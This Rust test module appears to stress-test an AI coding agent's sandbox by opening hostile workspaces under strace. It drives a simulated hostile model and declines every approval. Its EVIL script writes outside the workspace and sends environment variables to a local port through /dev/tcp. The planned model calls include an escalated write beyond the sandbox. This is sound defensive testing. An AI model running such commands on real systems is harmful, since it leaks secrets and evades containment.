//! Hostile workspaces, opened under strace.

mod fixtures;
mod trace;

use std::fs;
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use clap::Args;
use serde_json::{Value, json};
use support::StdioServer;

use crate::call::{Class, Input, ModelCallSpec};
use crate::host::{HostFixture, HostLayout};
use crate::model::HostileModel;
use crate::secrets::Secrets;
use crate::server;
use fixtures::{Commands, Fixture};
use trace::{ExpectedTrace, TraceReport};

/// Timeout of a turn under strace.
const TURN_TIMEOUT: Duration = Duration::from_secs(60);

/// Program that tries to leave the workspace in every way.
const EVIL: &str = "#!/bin/sh\n\
    echo pwned > {root}/outside/pwned\n\
    env > {root}/granted/env\n\
    bash -c 'env > /dev/tcp/127.0.0.1/{port}'\n\
    exit 1\n";

#[derive(Args)]
pub struct WorkspacesArgs {
    /// The program under test.
    #[arg(long)]
    raddle: PathBuf,
    /// Only workspaces with this text in their names.
    #[arg(long, default_value = "")]
    only: String,
    /// Number of workspaces opened at a time.
    #[arg(long, default_value_t = 3)]
    lanes: usize,
}

impl WorkspacesArgs {
    pub fn run(&self) -> Result<bool> {
        let started = Instant::now();
        let raddle = fs::canonicalize(&self.raddle)?;
        // The server measures the sandbox by trying to break out, which must not be part of the
        // trace.
        let measurement = measure(&raddle)?;
        let chosen: Vec<_> = fixtures::all()
            .filter(|it| it.name.contains(&self.only))
            .collect();
        let waiting = Mutex::new(chosen.iter());
        let opened = Mutex::new(Vec::new());
        let lane = || -> Result<()> {
            loop {
                let next = waiting.lock().map(|mut it| it.next());
                let Ok(Some(fixture)) = next else {
                    return Ok(());
                };
                let report = open(fixture, &raddle, &measurement)
                    .with_context(|| format!("the workspace {}", fixture.name))?;
                if let Ok(mut opened) = opened.lock() {
                    opened.push((fixture.name, report));
                }
            }
        };
        std::thread::scope(|scope| {
            let lanes: Vec<_> = (0..self.lanes.max(1)).map(|_| scope.spawn(lane)).collect();
            lanes
                .into_iter()
                .try_for_each(|it| it.join().unwrap_or_else(|_| bail!("a lane panicked")))
        })?;
        let opened = opened.into_inner().unwrap_or_default();
        ensure!(
            opened.len() == chosen.len(),
            "not every workspace was opened"
        );
        Ok(print_report(&opened, started.elapsed()))
    }
}

fn print_report(opened: &[(&str, TraceReport)], elapsed: Duration) -> bool {
    let sum = |count: fn(&TraceReport) -> usize| {
        opened
            .iter()
            .map(|(_, report)| count(report))
            .sum::<usize>()
    };
    for (name, report) in opened {
        for wrong in &report.wrongs {
            println!("WRONG {name}: {wrong}");
        }
    }
    let wrongs = sum(|it| it.wrongs.len());
    println!(
        "figure: {} workspaces in {:.1} s: {} programs started, {} of them inside the sandbox and {} there by git \
         because the repository says so; {} connections; {wrongs} violations",
        opened.len(),
        elapsed.as_secs_f64(),
        sum(|it| it.started),
        sum(|it| it.started_inside),
        sum(|it| it.by_git),
        sum(|it| it.connected),
    );
    if sum(|it| it.by_git) == 0 {
        println!("WRONG git started nothing of what repositories name, so the traps are not set");
        return false;
    }
    wrongs == 0
}

/// Returns the server's stored measurement of the sandbox, made once.
fn measure(raddle: &Path) -> Result<Vec<u8>> {
    let home = tempfile::tempdir()?;
    let status = Command::new(raddle)
        // With a model and its key a turn could run, so only the sandbox decides the status.
        .args(["doctor", "-c", "model=openai/any"])
        .env("RADDLE_HOME", home.path())
        .env("OPENAI_API_KEY", "k")
        .stdout(std::process::Stdio::null())
        .status()?;
    ensure!(
        status.success(),
        "commands cannot be sandboxed here: see `raddle doctor`"
    );
    fs::read(home.path().join("fence")).context("the measurement of the sandbox is not stored")
}

fn open(fixture: &Fixture, raddle: &Path, measurement: &[u8]) -> Result<TraceReport> {
    let secrets = Secrets::new(fixture.name.len() as u64 ^ 0x77);
    let model = HostileModel::open(secrets.clone())?;
    let config = model.config("adversary");
    let mut host = HostFixture::new(&secrets, &config, |layout| write_fixture(fixture, layout))?;
    let layout = host.layout.clone();
    fs::write(layout.home().join("fence"), measurement)?;
    let trace_path = layout.root.join("trace");
    let first = fixture
        .first_in_path()
        .map(|it| layout.workspace().join(it).display().to_string());
    let usual = "/usr/local/bin:/usr/bin:/bin";
    let path = match &first {
        Some(first) => format!("{first}:{usual}"),
        None => usual.to_owned(),
    };
    let mut command = Command::new("strace");
    command
        .args([
            "-f",
            "-qq",
            "--seccomp-bpf",
            "--pidns-translation",
            "-s",
            "512",
        ])
        .args([
            "-e",
            "trace=execve,execveat,connect,clone,clone3,fork,vfork",
            "-o",
        ])
        .arg(&trace_path)
        .arg(raddle)
        .arg("app-server")
        .env("RADDLE_HOME", layout.home())
        .env("HOME", layout.user())
        .env("PATH", path)
        .env("SHELL", "/bin/bash")
        .envs(secrets.environment())
        .current_dir(layout.workspace());
    let mut server = server::start(command, &layout.root.join("server.stderr"))?;
    session(&mut server, &model, &layout, fixture.commands)?;
    server.end()?;

    let expected = ExpectedTrace {
        raddle: &raddle.display().to_string(),
        model: model.port(),
        root: &layout.root.display().to_string(),
        by_git: fixture.commands == Commands::RunByGit,
        first: first.as_deref(),
    };
    let mut report = trace::judge(&fs::read_to_string(&trace_path)?, &expected);
    ensure!(
        report.started_inside > 0 || fixture.commands == Commands::Refused,
        "no command ran inside the sandbox, so the trace shows nothing"
    );
    if let Some(violation) = host.violation()? {
        report.wrongs.push(violation);
    }
    let markers = host.markers()?;
    report.wrongs.extend(
        markers
            .iter()
            .map(|it| format!("{} was left", it.display())),
    );
    report.wrongs.extend(model.leaks());
    let key = format!("Bearer {}", secrets.key());
    if model.key().as_deref() != Some(&key) {
        report
            .wrongs
            .push("the model was not sent its key".to_owned());
    }
    Ok(report)
}

/// Creates the workspace of the fixture.
fn write_fixture(fixture: &Fixture, layout: &HostLayout) -> Result<()> {
    let workspace = layout.workspace();
    let evil = workspace.join("evil.sh");
    let filled = |text: &str| {
        text.replace("{evil}", &evil.display().to_string())
            .replace("{port}", &layout.port.to_string())
            .replace("{root}", &layout.root.display().to_string())
    };
    let write = |path: &Path, text: &str, adds: bool| -> Result<()> {
        if let Some(folder) = path.parent() {
            fs::create_dir_all(folder)?;
        }
        if let Some(target) = text.strip_prefix("-> ") {
            return Ok(symlink(target, path)?);
        }
        let mut file = fs::File::options()
            .create(true)
            .write(!adds)
            .append(adds)
            .truncate(!adds)
            .open(path)?;
        file.write_all(filled(text).as_bytes())?;
        if text.starts_with("#!") {
            file.set_permissions(fs::Permissions::from_mode(0o755))?;
        }
        Ok(())
    };
    write(&evil, EVIL, false)?;
    for (path, text) in fixture.files {
        let (path, adds) = match path.strip_prefix('+') {
            Some(path) => (path, true),
            None => (*path, false),
        };
        let at = workspace.join(path);
        // Files that every workspace has are replaced.
        let top = workspace.join(path.split('/').next().unwrap_or(path));
        let is_in_the_way = if at == top {
            at.is_dir()
        } else {
            top.is_symlink()
        };
        if is_in_the_way {
            fs::remove_dir_all(&at)?;
        }
        // An empty file in place of a folder means that the folder is removed.
        if text.is_empty() && path == ".git" {
            continue;
        }
        write(&at, text, adds).with_context(|| format!("cannot make {path}"))?;
    }
    Ok(())
}

/// Runs a usual session: looks around, has a model work there, and runs git.
fn session(
    server: &mut StdioServer,
    model: &HostileModel,
    layout: &HostLayout,
    commands: Commands,
) -> Result<()> {
    let workspace = layout.workspace();
    let cwd = json!(workspace);
    for (method, params) in [
        ("config/read", json!({"cwd": cwd, "includeLayers": true})),
        ("configRequirements/read", json!({})),
        ("skills/list", json!({"cwds": [cwd]})),
        ("thread/list", json!({"cwd": cwd})),
        ("model/list", json!({})),
        ("fs/readDirectory", json!({"path": cwd})),
        ("fuzzyFileSearch", json!({"query": "evil", "roots": [cwd]})),
    ] {
        server.call(method, &params)?;
    }
    let started = server.call(
        "thread/start",
        &json!({"cwd": cwd, "approvalPolicy": "on-request", "sandbox": "workspace-write"}),
    )?;
    let thread = started["thread"]["id"]
        .as_str()
        .context("a thread")?
        .to_owned();
    let text = model.plan(1, calls(layout));
    let input = json!([{"type": "text", "text": text}]);
    server.send_request("turn/start", &json!({"threadId": thread, "input": input}))?;
    let asked = wait_for_turn(server, &thread)?;
    ensure!(
        asked.approvals == 1,
        "the client was asked {} times, not once",
        asked.approvals
    );
    ensure!(
        asked.about_trust <= 1,
        "the client was asked {} times whether the folder is trusted",
        asked.about_trust
    );
    let target = json!({"type": "uncommittedChanges"});
    server.send_request(
        "review/start",
        &json!({"threadId": thread, "target": target, "delivery": "inline"}),
    )?;
    let asked = wait_for_turn(server, &thread)?;
    ensure!(
        asked == RequestCounts::default(),
        "a review asked: {asked:?}"
    );
    let writable = json!({"type": "workspaceWrite", "writableRoots": [], "networkAccess": false});
    for words in [vec!["git", "status"], vec!["git", "diff"], vec!["ls"]] {
        let params = json!({"command": words, "cwd": cwd, "sandboxPolicy": writable});
        let result = server.call("command/exec", &params);
        if commands == Commands::Refused {
            let why = result
                .err()
                .context("a command ran where no sandbox is possible")?;
            ensure!(why.to_string().contains("sandbox_unavailable"), "{why}");
        } else {
            result?;
        }
    }
    server.call(
        "thread/read",
        &json!({"threadId": thread, "includeTurns": true}),
    )?;
    Ok(())
}

/// Returns the calls of a benign model; the last one goes outside the sandbox, and the workspace
/// must not decide on that.
fn calls(layout: &HostLayout) -> Vec<ModelCallSpec> {
    let beyond = format!("touch {}", layout.granted().join("beyond").display());
    let calls = [
        ("exec_command", json!({"cmd": "ls"})),
        ("exec_command", json!({"cmd": "git status"})),
        ("exec_command", json!({"cmd": "git diff | cat"})),
        ("exec_command", json!({"cmd": "cat src/letters.txt"})),
        ("read_file", json!({"path": "src/letters.txt"})),
        ("list_files", json!({"path": "."})),
        ("search_files", json!({"pattern": "gamma", "path": "."})),
        (
            "write_file",
            json!({"path": "src/new.txt", "content": "x\n"}),
        ),
        (
            "exec_command",
            json!({"cmd": beyond, "sandbox_permissions": "require_escalated"}),
        ),
    ];
    let calls = calls.iter().enumerate();
    calls
        .map(|(number, (name, arguments))| {
            let input = Input::Arguments(Value::to_string(arguments));
            ModelCallSpec::new(number, "harmless", Class::Work, name, input)
        })
        .collect()
}

/// Requests that the server sent during a turn.
#[derive(Debug, Default, PartialEq)]
struct RequestCounts {
    approvals: usize,
    /// Whether the folder is trusted: asked where it has skills, and left open here.
    about_trust: usize,
}

/// Waits for the end of a turn, declines every approval, answers no question, and returns how many
/// there were.
fn wait_for_turn(server: &mut StdioServer, thread: &str) -> Result<RequestCounts> {
    let end = Instant::now() + TURN_TIMEOUT;
    let mut asked = RequestCounts::default();
    loop {
        let message = server.next(end)?.context("the turn did not end")?;
        ensure!(
            message.get("error").is_none(),
            "a request failed: {message}"
        );
        let params = &message["params"];
        if message.get("id").is_some() && message.get("method").is_some() {
            let answer = if message["method"] == "item/tool/requestUserInput" {
                asked.about_trust += 1;
                json!({"answers": {}})
            } else {
                asked.approvals += 1;
                json!({"decision": "decline"})
            };
            server.send(&json!({"id": message["id"], "result": answer}))?;
        }
        if message["method"] == "turn/completed" && params["threadId"] == thread {
            ensure!(
                params["turn"]["status"] == "completed",
                "the turn failed: {params}"
            );
            return Ok(asked);
        }
    }
}
